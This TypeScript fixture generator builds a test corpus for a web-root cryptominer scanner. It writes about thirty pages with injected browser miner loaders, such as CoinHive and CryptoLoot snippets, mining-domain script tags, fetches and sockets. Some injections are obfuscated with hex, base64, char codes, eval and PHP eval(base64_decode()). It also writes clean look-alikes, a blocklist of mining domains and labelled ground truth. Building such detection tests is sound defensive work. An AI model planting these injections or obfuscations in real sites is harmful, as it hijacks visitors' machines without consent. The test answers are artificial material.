/**
 * A generated web-site tree for the web-root check: sites with browser miners injected in every
 * form the check claims to find (plain loaders and site keys, script tags, fetch, import, workers,
 * sockets, frames, and each obfuscation: concatenation, hex, unicode and percent escapes, base64,
 * character codes, arrays joined, eval of built strings, PHP eval(base64_decode())), and clean
 * sites with look-alikes (analytics, a WebAssembly game with workers and sockets, an article about
 * CoinHive with code samples and links, a blocker script listing mining domains, base64 images,
 * lodash's throttle). Each injected file carries exactly one injection; the truth says which line.
 * Used by test/scan-web-root.test.ts and `npm run eval:webroot`.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

export interface InjectedTruth {
  /** Relative to the corpus root. */
  file: string;
  form: string;
  line: number;
  /** The injection is alone on its line: the fix can remove it. */
  removable: boolean;
}

export interface WebRootCorpus {
  injected: InjectedTruth[];
  clean: { file: string; lookalike: string }[];
}

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const hex = (s: string): string => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const uni = (s: string): string => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const pct = (s: string): string => [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const codes = (s: string): string => [...s].map((c) => c.charCodeAt(0)).join(',');

const SITE_KEY = 'x3AoP8zQ1kLmN5vB7cD9eF2gH4jK6';
const IMP_KEY = '0123456789abcdef'.repeat(4);
const MINER_JS = `var miner = new CoinHive.Anonymous('${SITE_KEY}', {throttle: 0.3}); miner.start();`;
const TAG = '<script src="https://coinhive.com/lib/coinhive.min.js"></script>';

/** A page whose line `at` (1-based) will hold the injection. */
function page(title: string, injection: string, lineInInjection = 0): { text: string; line: number } {
  const head = [
    '<!DOCTYPE html>',
    '<html lang="en">',
    '<head>',
    '<meta charset="utf-8">',
    `<title>${title}</title>`,
    '<link rel="stylesheet" href="/css/site.css">',
    '</head>',
    '<body>',
    `<h1>${title}</h1>`,
    '<p>Welcome to our shop. Opening hours: 9 to 5.</p>',
  ];
  const tail = ['<footer>&copy; 2026 Example Ltd</footer>', '</body>', '</html>', ''];
  return { text: [...head, injection, ...tail].join('\n'), line: head.length + 1 + lineInInjection };
}

function phpPage(injection: string): { text: string; line: number } {
  const head = ['<?php', "require_once __DIR__ . '/config.php';", '$title = "Blog";', '?>', '<html><body>'];
  return {
    text: [...head, injection, '<?php echo htmlspecialchars($title); ?>', '</body></html>', ''].join('\n'),
    line: head.length + 1,
  };
}

function script(injection: string): { text: string; line: number } {
  const head = [
    "'use strict';",
    'function menu() {',
    "  document.querySelector('.nav').classList.toggle('open');",
    '}',
  ];
  return { text: [...head, injection, "window.addEventListener('load', menu);", ''].join('\n'), line: head.length + 1 };
}

/** Every injected form: [file, form, content]. */
function injections(): [string, string, { text: string; line: number }, boolean][] {
  const built = (code: string) => `<script>${code}</script>`;
  return [
    ['shop/index.html', 'script tag to a mining domain', page('Shop', TAG), true],
    ['shop/about.html', 'CoinHive site key and throttle', page('About', built(MINER_JS)), true],
    [
      'news/index.html',
      'CryptoLoot loader',
      page('News', built(`var miner=new CRLT.Anonymous('${SITE_KEY}', {threads:3, throttle:0.2}); miner.start();`)),
      true,
    ],
    [
      'news/old.html',
      'Coinimp loader (64-hex site key)',
      page('Old', built(`var _client = new Client.Anonymous('${IMP_KEY}', {throttle: 0, c: 'w'}); _client.start();`)),
      true,
    ],
    [
      'blog/index.html',
      'JSEcoin loader',
      page('Blog', '<script src="https://load.jsecoin.com/load/12345/example.com/0/0/"></script>'),
      true,
    ],
    [
      'blog/post1.html',
      'WebMinePool loader',
      page('Post', built(`var miner = WMP.Anonymous('${SITE_KEY}'); miner.start();`)),
      true,
    ],
    [
      'blog/post2.html',
      'Monero-ocean webminer (startMining, throttleMiner)',
      page(
        'Post 2',
        built('startMining("moneroocean.stream","47vQ8yjkGZL5p8e7SXAgsT2qXXUyR6TprEzfjmGaBy6N"); throttleMiner = 20;'),
      ),
      true,
    ],
    [
      'blog/post3.html',
      'iframe to a mining domain',
      page(
        'Post 3',
        `<iframe src="https://authedmine.com/media/miner.html?key=${SITE_KEY}" width="0" height="0"></iframe>`,
      ),
      true,
    ],
    [
      'assets/js/app.js',
      'fetch from a mining domain',
      script("fetch('https://coinhive.com/lib/worker.js').then((r) => r.text()).then(eval);"),
      true,
    ],
    [
      'assets/js/lazy.js',
      'dynamic import from a mining domain',
      script("import('https://minero.cc/lib/minero.min.js').then((m) => m.start());"),
      true,
    ],
    [
      'assets/js/module.mjs',
      'ES import from a mining domain',
      script("import { start } from 'https://cryptoloot.pro/lib/miner.js';"),
      true,
    ],
    [
      'assets/js/loader.js',
      'script element src set to a mining domain',
      script(
        "var s = document.createElement('script'); s.src = 'https://coin-hive.com/lib/coinhive.min.js'; document.head.appendChild(s);",
      ),
      true,
    ],
    [
      'assets/js/worker.js',
      'importScripts in a worker',
      script("importScripts('https://coinimp.com/lib/worker.js');"),
      true,
    ],
    [
      'assets/js/socket.js',
      'WebSocket to a mining proxy',
      script("var ws = new WebSocket('wss://ppoi.org/proxy2');"),
      true,
    ],
    [
      'assets/js/cn.js',
      'CryptoNight WebAssembly worker',
      script('self.onmessage = function (e) { postMessage(Module._cryptonight_hash(e.data.blob)); };'),
      true,
    ],
    [
      'assets/js/stratum.js',
      'stratum messages',
      script(
        'ws.send(JSON.stringify({"method":"submit","params":{"id":id,"job_id":job,"nonce":nonce,"result":hash}}));',
      ),
      true,
    ],
    [
      'assets/js/concat.js',
      'string concatenation',
      script(
        "var s = document.createElement('script'); s.src = 'https://coin' + 'hive' + '.com/lib/coinhive.min.js'; document.body.appendChild(s);",
      ),
      true,
    ],
    [
      'assets/js/hex.js',
      'hex escapes',
      script(`var u = "${hex('https://coinhive.com/lib/coinhive.min.js')}"; loadScript(u);`),
      true,
    ],
    [
      'assets/js/unicode.js',
      'unicode escapes',
      script(`var u = "${uni('wss://crypto-loot.com/proxy')}"; connect(u);`),
      true,
    ],
    ['assets/js/b64.js', 'base64 and eval (atob)', script(`eval(atob('${b64(MINER_JS)}'));`), true],
    [
      'gallery/index.html',
      'document.write of base64',
      page('Gallery', built(`document.write(atob('${b64(TAG)}'));`)),
      true,
    ],
    [
      'gallery/view.html',
      'eval of a built string',
      page('View', built(`eval('var m = new Co' + 'inHive.Anon' + 'ymous("${SITE_KEY}"); m.start();');`)),
      true,
    ],
    [
      'assets/js/charcode.js',
      'String.fromCharCode and eval',
      script(`eval(String.fromCharCode(${codes(MINER_JS)}));`),
      true,
    ],
    [
      'assets/js/join.js',
      'array joined',
      script("var h = ['coin', 'hive', '.com'].join(''); var p = '/lib/coinhive.min.js';"),
      true,
    ],
    [
      'assets/js/percent.js',
      'percent escapes (unescape) and eval',
      script(`eval(unescape('${pct(MINER_JS)}'));`),
      true,
    ],
    [
      'forum/index.php',
      'PHP eval(base64_decode())',
      phpPage(`<?php eval(base64_decode('${b64(`echo '${TAG}';`)}')); ?>`),
      true,
    ],
    [
      'forum/topic.php',
      'PHP echo with concatenation',
      phpPage(`<?php echo '<script src="https://crypto' . '-loot.com/lib/miner.js"></script>'; ?>`),
      true,
    ],
    ['themes/base.twig', 'template with an injected loader', page('{{ title }}', built(MINER_JS)), true],
    [
      'shop/min.html',
      'injection inside a minified line',
      {
        text: `<!DOCTYPE html><html><head><title>m</title></head><body><div id="app"></div>${TAG}<script src="/js/app.min.js"></script></body></html>\n`,
        line: 1,
      },
      false,
    ],
    [
      'blog/multi.html',
      'multi-line injected script',
      page('Multi', `<script>\nvar miner = new CoinHive.User('${SITE_KEY}', 'john');\nminer.start();\n</script>`, 1),
      false,
    ],
  ];
}

function lookalikes(): [string, string, string][] {
  const analytics = page(
    'Analytics',
    `<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123"></script>\n<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','G-ABC123');</script>\n<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)};a=s.createElement(o);m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');</script>\n<script>var _paq = window._paq = window._paq || []; _paq.push(['trackPageView']); (function() { var u="//matomo.example.org/"; var g=document.createElement('script'); g.src=u+'matomo.js'; document.head.appendChild(g); })();</script>`,
  ).text;
  const game = page(
    'Asteroids (WebAssembly)',
    `<canvas id="c"></canvas>\n<script type="module">\nconst threads = navigator.hardwareConcurrency || 4;\nconst workers = Array.from({ length: threads }, () => new Worker('physics-worker.js'));\nconst { instance } = await WebAssembly.instantiateStreaming(fetch('game.wasm'), { env: { memory: new WebAssembly.Memory({ initial: 256 }) } });\nconst ws = new WebSocket('wss://play.example-games.com/lobby');\nfunction frame() { instance.exports._tick(performance.now()); instance.exports._sha256_hash_state(); requestAnimationFrame(frame); }\nrequestAnimationFrame(frame);\n</script>`,
  ).text;
  const gameWorker =
    "self.onmessage = (e) => { const { bodies } = e.data; for (const b of bodies) { b.x += b.vx; b.y += b.vy; } postMessage(bodies); };\nimportScripts('physics-helpers.js');\n";
  const article = page(
    'What happened to CoinHive?',
    `<article>\n<p>CoinHive (coinhive.com) offered site owners a JavaScript miner: a page added <code>&lt;script src="https://coinhive.com/lib/coinhive.min.js"&gt;&lt;/script&gt;</code> and called <code>new CoinHive.Anonymous('SITE_KEY')</code>.</p>\n<pre><code>var miner = new CoinHive.Anonymous('YOUR_SITE_KEY', {throttle: 0.3});\nminer.start();</code></pre>\n<p>Its successors, like <a href="https://www.crypto-loot.com/">CryptoLoot</a> and coinimp.com, and pools such as moneroocean.stream, are blocked by most ad blockers. See <a href="https://coinhive.com/documentation">the old documentation</a>.</p>\n</article>\n<script type="application/ld+json">{"@type":"Article","headline":"What happened to CoinHive?","articleBody":"CoinHive (coinhive.com) offered site owners a JavaScript miner that called new CoinHive.Anonymous('SITE_KEY')."}</script>`,
  ).text;
  const blocker =
    "// A content blocker's list: these names are refused, not loaded.\nconst BLOCKED = ['coinhive.com', 'coin-hive.com', 'crypto-loot.com', 'coinimp.com', 'minero.cc', 'webminepool.com'];\nexport function isBlocked(host) { return BLOCKED.some((d) => host === d || host.endsWith('.' + d)); }\n";
  const images =
    "const PIXEL = atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==');\nconst GREETING = atob('SGVsbG8sIHdvcmxkIQ==');\nconst throttled = _.throttle(() => save(), 500);\nplayer.setThrottle(0.5);\nfetch('/api/cart').then((r) => r.json());\n";
  const donate = page(
    'Donate',
    '<p>Support us with Monero: <code>47vQ8yjkGZL5p8e7SXAgsT2qXXUyR6TprEzfjmGaBy6N</code> or <a href="bitcoin:bc1qexample">Bitcoin</a>.</p>',
  ).text;
  const php =
    "<?php\n$rows = $db->query('SELECT body FROM posts');\nforeach ($rows as $row) { echo base64_decode($row['body']); }\n$greeting = base64_decode('SGVsbG8gd29ybGQ=');\necho '<script src=\"/js/app.js\"></script>';\n?>\n";
  const minified = `!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n.p="/static/",n(n.s=0)}([function(e,t){var s="https://cdn.example.com/"+"bundle."+"js";console.log(String.fromCharCode(72,101,108,108,111));document.title=["Sh","op"].join("")}]);\n`;
  return [
    ['clean-analytics/index.html', 'analytics (gtag, analytics.js, Matomo)', analytics],
    ['clean-game/index.html', 'WebAssembly game with workers and a socket', game],
    ['clean-game/physics-worker.js', 'game worker', gameWorker],
    ['clean-blog/coinhive-history.html', 'article about CoinHive with code samples and links', article],
    ['clean-blog/blocker.js', 'blocker script listing mining domains', blocker],
    ['clean-blog/images.js', 'base64 images, lodash throttle, setThrottle on a player', images],
    ['clean-blog/donate.html', 'donation page with a wallet address', donate],
    ['clean-blog/posts.php', 'PHP with base64_decode of data and an echoed script tag', php],
    ['clean-blog/bundle.min.js', 'minified bundle with concatenation, char codes and join', minified],
  ];
}

/** Writes the corpus under `root`; returns what is where. */
export function writeWebRootCorpus(root: string): WebRootCorpus {
  const injected: InjectedTruth[] = [];
  for (const [file, form, { text, line }, removable] of injections()) {
    const path = join(root, file);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
    injected.push({ file, form, line, removable });
  }
  const clean: WebRootCorpus['clean'] = [];
  for (const [file, lookalike, text] of lookalikes()) {
    const path = join(root, file);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
    clean.push({ file, lookalike });
  }
  return { injected, clean };
}
